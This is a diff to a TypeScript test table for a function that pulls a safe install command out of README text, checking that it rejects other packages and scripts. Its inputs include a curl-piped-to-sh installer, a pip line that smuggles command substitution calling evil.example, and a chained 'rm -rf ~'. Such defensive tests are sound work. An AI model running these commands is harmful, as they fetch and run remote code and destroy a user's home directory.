@@ -24,7 +24,7 @@ test.each<[string, string, string | null]>([
   ['a guess where nothing is said', 'Nothing.', 'pip install fern'],
   ['never another package', '    pipx install moss', 'pip install fern'],
   ['never a script', '    curl https://fern.example/install.sh | sh', 'pip install fern'],
-  ['never what a shell works out', '    pip install fern==$(curl${IFS}evil.example)', 'pip install fern'],
+  ['never what a shell works out', '    pip install fern==$(curl,evil.example)', 'pip install fern'],
   ['never a line with more behind it', '    pipx install fern && rm -rf ~', 'pip install fern'],
 ])('%s', async (_, text, want) => {
   expect(await inReadme(text, { 'pyproject.toml': python })).toBe(want)
